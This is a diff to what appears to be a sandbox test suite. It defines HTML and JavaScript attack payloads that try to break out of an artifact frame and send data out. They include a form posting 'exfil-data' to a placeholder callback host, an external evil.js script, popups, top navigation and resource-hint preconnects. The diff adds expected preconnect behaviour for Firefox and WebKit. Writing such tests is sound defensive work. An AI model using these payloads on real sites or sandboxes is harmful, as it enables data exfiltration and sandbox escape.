@@ -12,6 +12,10 @@ const done = `setTimeout(() => console.log('ATTACK-DONE'), 400);`;
 const later = (js) => `setTimeout(() => { ${js} }, 700);`;
 const NAV = { navigates: true };
 const NAV_PRECONNECTS = { navigates: true, preconnects: true };
+// Firefox and WebKitGTK open a connection (no request) for resource hints despite the CSP, and
+// WebKitGTK for a link to a popup the sandbox then refuses (README, Browser support).
+const HINT_PRECONNECTS = { preconnectsOn: ['firefox', 'webkit'] };
+const WEBKIT_PRECONNECTS = { preconnectsOn: ['webkit'] };
 const script = (js) => `<!DOCTYPE html><html><body><p>attack</p><script>
 const C = '__C__'; const S = 'exfil-data';
 const report = (what, v) => console.log('RESULT ' + what + ' ' + String(v));
@@ -41,7 +45,7 @@ export const ATTACKS = [
   ['navigate top with a target=_top link', script(`const a = document.createElement('a'); a.href = C + '/link-top'; a.target = '_top'; document.body.append(a); attempt('click', () => { a.click(); return 'clicked'; });`)],
   ['navigate top with a target=_top form', script(`const f = document.createElement('form'); f.action = C + '/form-top'; f.target = '_top'; document.body.append(f); attempt('submit', () => { f.submit(); return 'submitted'; });`)],
   ['open a popup', script(`attempt('window.open', () => window.open(C + '/popup'));`)],
-  ['open a popup with a target=_blank link', script(`const a = document.createElement('a'); a.href = C + '/blank'; a.target = '_blank'; document.body.append(a); attempt('click', () => { a.click(); return 'clicked'; });`)],
+  ['open a popup with a target=_blank link', script(`const a = document.createElement('a'); a.href = C + '/blank'; a.target = '_blank'; document.body.append(a); attempt('click', () => { a.click(); return 'clicked'; });`), WEBKIT_PRECONNECTS],
   ['post a form to another site', script(`const f = document.createElement('form'); f.method = 'post'; f.action = C + '/post'; const i = document.createElement('input'); i.name = 'x'; i.value = S; f.append(i); document.body.append(f); ${later("f.submit();")}`), NAV_PRECONNECTS],
   ['meta refresh to another site', `<!DOCTYPE html><html><head><meta http-equiv="refresh" content="1;url=__C__/refresh"></head><body><script>console.log('ATTACK-DONE')</script></body></html>`, NAV_PRECONNECTS],
   ['navigate the artifact frame itself', script(later(`location.href = C + '/self';`)), NAV_PRECONNECTS],
@@ -62,7 +66,7 @@ export const ATTACKS = [
   ['external script', `<!DOCTYPE html><html><body><script src="__C__/evil.js"></script><script>console.log('ATTACK-DONE')</script></body></html>`],
   ['external stylesheet', `<!DOCTYPE html><html><head><link rel="stylesheet" href="__C__/evil.css"></head><body><script>console.log('ATTACK-DONE')</script></body></html>`],
   ['prefetch and preload', `<!DOCTYPE html><html><head><link rel="prefetch" href="__C__/prefetch"><link rel="preload" as="fetch" href="__C__/preload" crossorigin></head><body><script>console.log('ATTACK-DONE')</script></body></html>`],
-  ['dns-prefetch and preconnect', `<!DOCTYPE html><html><head><link rel="dns-prefetch" href="__C__"><link rel="preconnect" href="__C__"></head><body><script>console.log('ATTACK-DONE')</script></body></html>`],
+  ['dns-prefetch and preconnect', `<!DOCTYPE html><html><head><link rel="dns-prefetch" href="__C__"><link rel="preconnect" href="__C__"></head><body><script>console.log('ATTACK-DONE')</script></body></html>`, HINT_PRECONNECTS],
   ['media elements', `<!DOCTYPE html><html><body><video src="__C__/v.mp4" autoplay muted></video><audio src="__C__/a.mp3" autoplay></audio><script>console.log('ATTACK-DONE')</script></body></html>`],
   ['object and embed', `<!DOCTYPE html><html><body><object data="__C__/obj"></object><embed src="__C__/embed"><script>console.log('ATTACK-DONE')</script></body></html>`],
   ['SVG image', `<!DOCTYPE html><html><body><svg><image href="__C__/svg.png" width="10" height="10"/></svg><script>console.log('ATTACK-DONE')</script></body></html>`],
